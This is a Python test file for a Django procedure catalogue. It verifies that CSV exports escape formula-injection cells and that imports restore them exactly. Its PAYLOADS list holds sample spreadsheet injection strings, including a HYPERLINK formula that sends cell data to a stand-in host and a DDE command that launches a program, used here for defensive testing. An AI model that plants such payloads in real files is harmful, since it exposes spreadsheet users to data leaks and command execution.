"""CSV formula injection: exported cells never start a formula, and the import undoes exactly that escaping."""

import csv
import io

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from procedures.documents.catalogue_file import COLUMNS, neutralise_cell, read_csv, restore_cell, write_csv
from procedures.models import Procedure
from procedures.selectors.catalogue_export import export_csv
from procedures.services.catalogue_import import import_catalogue
from tests.catalogue.test_import import as_json, row

pytestmark = pytest.mark.django_db
CHANGELIST = "/admin/procedures/procedure/"

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_export_neutralises_formula_cells_and_import_restores_them(units):
    rows = [
        row(code=f"9.90000{i}", name=payload, name_en=payload, source_note=payload, applicant="'quoted")
        for i, payload in enumerate(PAYLOADS, start=1)
    ]
    assert import_catalogue(as_json(*rows), fmt="json").ok
    exported = export_csv()
    for record in cells(exported)[1:]:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    name = COLUMNS.index("name")
    assert cells(exported)[1][name] == "'" + PAYLOADS[0]

    Procedure.objects.all().delete()
    report = import_catalogue(exported.encode(), fmt="csv")
    assert report.ok, report.errors
    assert sorted(Procedure.objects.values_list("name", flat=True)) == sorted(PAYLOADS)
    assert set(Procedure.objects.values_list("applicant", flat=True)) == {"'quoted"}
    assert export_csv() == exported


def test_admin_export_keeps_the_bom_and_neutralises(admin_client, units):
    assert import_catalogue(as_json(row(name=PAYLOADS[1])), fmt="json").ok
    content = admin_client.get(f"{CHANGELIST}export/csv/").content.decode("utf-8")
    assert content.startswith("\ufeff")
    assert cells(content)[1][COLUMNS.index("name")] == "'" + PAYLOADS[1]


@given(st.text())
def test_restore_undoes_neutralise(text):
    assert restore_cell(neutralise_cell(text)) == text
    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# Arbitrary text without NUL (never a text file) and without surrounding blanks (cells are trimmed on import).
cell_text = st.text(st.characters(exclude_characters="\x00"), max_size=30).map(str.strip)


@settings(max_examples=200, deadline=None)
@given(values=st.lists(cell_text, min_size=len(COLUMNS) - 3, max_size=len(COLUMNS) - 3))
def test_csv_scalar_cells_round_trip_exactly(values):
    assume(any(values))  # a row of empty cells is a blank line, skipped
    scalars = dict(zip(COLUMNS[:-3], values, strict=True))
    text = write_csv([{**scalars, "units": [], "documents": [], "steps": []}])
    rows, errors = read_csv(text)
    assert errors == []
    assert {k: rows[0].values[k] for k in scalars} == scalars


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=1, max_size=60).map(str.strip))
def test_names_round_trip_through_the_database(units, name):
    assume(name and "|" not in name)
    Procedure.objects.all().delete()
    assert import_catalogue(as_json(row(name=name, source_note=name)), fmt="json").ok
    exported = export_csv()
    Procedure.objects.all().delete()
    report = import_catalogue(exported.encode(), fmt="csv")
    assert report.ok, report.errors
    assert Procedure.objects.get().name == name
    assert export_csv() == exported
